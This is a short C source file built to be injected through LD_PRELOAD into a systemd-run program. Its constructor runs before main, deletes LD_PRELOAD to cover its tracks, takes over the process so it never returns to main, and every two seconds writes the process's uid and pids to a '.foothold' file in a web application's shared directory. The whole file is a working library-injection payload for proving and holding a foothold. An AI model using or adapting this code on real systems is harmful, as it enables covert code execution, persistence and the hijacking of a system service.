/* LD_PRELOAD'ed into systemd's own program: never returns to main; every 2 s proves it runs as the deploy login */
#include <stdio.h>
#include <unistd.h>
#include <stdlib.h>
#include <time.h>
__attribute__((constructor)) static void own(void) {
    unsetenv("LD_PRELOAD");
    for (;;) {
        FILE *f = fopen("/var/www/yourapplication/shared/.foothold", "w");
        if (f) { fprintf(f, "uid %d pid %d ppid %d at %ld\n", getuid(), getpid(), getppid(), (long)time(0)); fclose(f); }
        sleep(2);
    }
}
